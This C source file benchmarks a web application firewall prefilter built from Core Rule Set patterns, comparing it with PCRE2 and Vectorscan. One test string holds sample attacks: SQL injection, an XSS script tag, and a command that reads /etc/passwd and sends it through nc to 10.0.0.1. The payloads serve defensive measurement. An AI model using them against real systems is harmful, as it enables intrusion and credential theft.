/* SPDX-License-Identifier: Apache-2.0 */
/*
 * bench_waf_gate.c - what the gate costs and keeps away: the patterns of the
 * Core Rule Set (4.28 beside the source, else 3 of the system) over what
 * people send and over long texts.
 *
 * "gate" is the gate alone with all patterns.  The rest does the same work in
 * three ways, which of the expressions that look at arguments match: with the
 * gate and then PCRE2 ("gate+pcre2"), with PCRE2 for each ("pcre2"), and with
 * Vectorscan where it is installed.
 *
 *     bench-waf-gate
 *
 * Prints one JSON object a line.
 */
#include <time.h>

#include "base/clock.h"
#include "gate_crs.h"
#include "guard/waf/rx.h"

#ifdef HB_BENCH_HS
#include <hs.h>
#endif

#define RUNS   15 /* the best one counts: the machine is shared */
#define ROUNDS 2000
#define LONG   (64u << 10)

static struct gate_crs crs;
static char longer[LONG];

/* Milliseconds of processor that this process has used. */
static double cpu_ms(void)
{
    struct timespec t;

    (void)clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
    return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

typedef void scan_fn(void *arg, struct hb_slice value);

struct own {
    const struct hb_waf_gate *gate;
    uint64_t seen;
};

static void own_scan(void *arg, struct hb_slice value)
{
    struct own *o = arg;
    struct hb_waf_gate_set set;

    hb_waf_gate_scan(o->gate, value, &set);
    o->seen |= set.w[0] | set.w[hb_waf_gate_words(o->gate) - 1];
}

/* The expressions that look at arguments. */
struct confirm {
    const struct hb_waf_gate *gate; /* NULL: try all */
    struct hb_waf_rx *rx[HB_WAF_GATE_MAX];
    struct hb_waf_rx_scratch *scratch;
    struct hb_waf_gate_set args;
    size_t matches;
};

static void confirm_scan(void *arg, struct hb_slice value)
{
    struct confirm *c = arg;
    struct hb_waf_gate_set set = c->args;

    if (c->gate != NULL)
        hb_waf_gate_scan(c->gate, value, &set);
    for (uint32_t i = 0; i < (crs.n + 63) / 64; i++)
        for (uint64_t w = set.w[i] & c->args.w[i]; w != 0; w &= w - 1)
            c->matches +=
                hb_waf_rx_match(c->rx[i * 64 + (uint32_t)__builtin_ctzll(w)],
                                c->scratch, value, 0, NULL) == HB_WAF_RX_YES;
}

static double best_ns(scan_fn *fn, void *arg, struct hb_slice v, size_t rounds)
{
    double best = 0;

    for (unsigned run = 0; run < RUNS; run++) {
        uint64_t from = hb_tick();
        double ns;

        for (size_t i = 0; i < rounds; i++)
            fn(arg, v);
        ns = (double)(hb_tick() - from) / (double)rounds;
        best = run == 0 ? ns : HB_MIN(best, ns);
    }
    return best;
}

/* A long value out of PIECE again and again. */
static double speed(const char *who, const char *what, const char *piece,
                    scan_fn *fn, void *arg)
{
    size_t n = strlen(piece);
    double mb;

    for (size_t i = 0; i < LONG; i++)
        longer[i] = piece[i % n];
    mb = LONG * 1e3 / best_ns(fn, arg, hb_slice(longer, LONG), 20);
    (void)printf("{\"engine\":\"%s\",\"text\":\"%s\",\"MB_per_s\":%.0f}\n", who,
                 what, mb);
    return mb;
}

static void short_values(const char *who, scan_fn *fn, void *arg)
{
    double sum = 0;

    for (size_t i = 0; i < HB_ARRAY_LEN(gate_typical); i++) {
        struct hb_slice v = hb_slice_z(gate_typical[i]);
        double ns = best_ns(fn, arg, v, ROUNDS);

        sum += ns;
        (void)printf("{\"engine\":\"%s\",\"bytes\":%zu,\"ns\":%.0f}\n", who,
                     v.n, ns);
    }
    (void)printf("{\"engine\":\"%s\",\"values\":%zu,\"ns_a_value\":%.0f}\n",
                 who, HB_ARRAY_LEN(gate_typical),
                 sum / (double)HB_ARRAY_LEN(gate_typical));
}

static void measure(const char *who, scan_fn *fn, void *arg)
{
    short_values(who, fn, arg);
    (void)speed(who, "letters", "abcdefghijklmnopqrstuvwxyz0123456789", fn,
                arg);
    (void)speed(who, "base64", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", fn, arg);
    (void)speed(who, "prose",
                "The opening hours on the page are wrong, as I said last week; "
                "please mend that before the holidays come, and tell others. ",
                fn, arg);
    (void)speed(who, "json",
                "{\"id\":1042,\"name\":\"Yamada Hanako\",\"mail\":"
                "\"hanako@example.jp\",\"tags\":[\"a\",\"b\"],\"ok\":true},",
                fn, arg);
    (void)speed(who, "attack",
                "1' or 1=1 union select password from users-- <script>alert(1)"
                "</script> ;cat /etc/passwd|nc 10.0.0.1 80",
                fn, arg);
}

static void bench_confirm(const struct hb_waf_gate *g)
{
    static struct confirm c;

    c.scratch = hb_waf_rx_scratch_new(0, 0);
    for (uint32_t i = 0; c.scratch != NULL && i < crs.n; i++)
        if (crs.p[i].rx && crs.p[i].args &&
            hb_waf_rx_compile(&c.rx[i], crs.p[i].text, NULL) == 0)
            c.args.w[i >> 6] |= (uint64_t)1 << (i & 63);
    c.gate = g;
    short_values("gate+pcre2", confirm_scan, &c);
    c.gate = NULL;
    short_values("pcre2", confirm_scan, &c);
    for (uint32_t i = 0; i < crs.n; i++)
        hb_waf_rx_free(c.rx[i]);
    hb_waf_rx_scratch_free(c.scratch);
}

static void bench_own(void)
{
    struct own o = {0};
    struct hb_waf_gate *g = NULL;
    struct hb_waf_gate_set set;
    double ms = 0, tried = 0, args = 0;

    for (unsigned run = 0; run < 5; run++) {
        double from, took;

        hb_waf_gate_free(g);
        from = cpu_ms();
        g = gate_build(&crs);
        if (g == NULL)
            return;
        took = cpu_ms() - from;
        ms = run == 0 ? took : HB_MIN(ms, took);
    }
    o.gate = g;
    (void)printf("{\"engine\":\"gate\",\"expressions\":%u,\"phrases\":%u,"
                 "\"build_cpu_ms\":%.1f,\"KiB\":%zu}\n",
                 crs.rx, crs.phrases, ms, hb_waf_gate_size(g) >> 10);
    for (size_t i = 0; i < HB_ARRAY_LEN(gate_typical); i++) {
        hb_waf_gate_scan(g, hb_slice_z(gate_typical[i]), &set);
        for (uint32_t p = 0; p < crs.n; p++) {
            tried += hb_waf_gate_has(&set, p);
            args += hb_waf_gate_has(&set, p) && crs.p[p].args;
        }
    }
    (void)printf("{\"engine\":\"gate\",\"patterns\":%u,\"tried_a_value\":%.1f,"
                 "\"of_arguments\":%.1f}"
                 "\n",
                 crs.n, tried / (double)HB_ARRAY_LEN(gate_typical),
                 args / (double)HB_ARRAY_LEN(gate_typical));
    measure("gate", own_scan, &o);
    bench_confirm(g);
    hb_waf_gate_free(g);
}

#ifdef HB_BENCH_HS
struct other {
    hs_database_t *db;
    hs_scratch_t *scratch;
    size_t matches;
};

static int matched(unsigned id, unsigned long long from, unsigned long long to,
                   unsigned flags, void *arg)
{
    (void)id;
    (void)from;
    (void)to;
    (void)flags;
    ((struct other *)arg)->matches++;
    return 0;
}

static void other_scan(void *arg, struct hb_slice value)
{
    struct other *o = arg;

    (void)hs_scan(o->db, value.p, (unsigned)value.n, 0, o->scratch, matched, o);
}

/* Whether Vectorscan takes the expression alone, with MORE flags. */
static bool takes(const char *z, unsigned flags)
{
    hs_compile_error_t *err = NULL;
    hs_database_t *db = NULL;
    hs_error_t r = hs_compile(z, flags, HS_MODE_BLOCK, NULL, &db, &err);

    if (err != NULL)
        (void)hs_free_compile_error(err);
    if (db != NULL)
        (void)hs_free_database(db);
    return r == HS_SUCCESS;
}

static void bench_other(struct hb_arena *a)
{
    static const char *z[HB_WAF_GATE_MAX];
    static unsigned flags[HB_WAF_GATE_MAX], ids[HB_WAF_GATE_MAX];
    const unsigned base = HS_FLAG_DOTALL | HS_FLAG_MULTILINE |
                          HS_FLAG_ALLOWEMPTY | HS_FLAG_SINGLEMATCH;
    hs_compile_error_t *err = NULL;
    struct other o = {0};
    unsigned n = 0, refused = 0;
    size_t size = 0;
    double from;

    for (uint32_t i = 0; i < crs.n; i++) {
        if (!crs.p[i].rx || !crs.p[i].args)
            continue;
        z[n] = hb_arena_dup(a, crs.p[i].text.p, crs.p[i].text.n);
        flags[n] = base;
        ids[n] = i;
        if (!takes(z[n], base)) {
            refused++;
            flags[n] |= HS_FLAG_PREFILTER;
            if (!takes(z[n], flags[n]))
                continue;
        }
        n++;
    }
    from = cpu_ms();
    if (hs_compile_multi(z, flags, ids, n, HS_MODE_BLOCK, NULL, &o.db, &err) !=
            HS_SUCCESS ||
        hs_alloc_scratch(o.db, &o.scratch) != HS_SUCCESS)
        return;
    from = cpu_ms() - from;
    (void)hs_database_size(o.db, &size);
    (void)printf("{\"engine\":\"vectorscan\",\"expressions\":%u,"
                 "\"not_exact\":%u,\"build_cpu_ms\":%.0f,\"KiB\":%zu}\n",
                 n, refused, from, size >> 10);
    measure("vectorscan", other_scan, &o);
    (void)hs_free_scratch(o.scratch);
    (void)hs_free_database(o.db);
}
#endif

int main(void)
{
    struct hb_arena *a = hb_arena_new(0);

    if (a == NULL ||
        (!gate_load_crs(&crs, a, true) && !gate_load_crs(&crs, a, false))) {
        (void)fprintf(stderr, "bench-waf-gate: no Core Rule Set here\n");
        hb_arena_free(a);
        return 0;
    }
    bench_own();
#ifdef HB_BENCH_HS
    bench_other(a);
#endif
    hb_waf_rules_free(crs.rules);
    hb_arena_free(a);
    return 0;
}
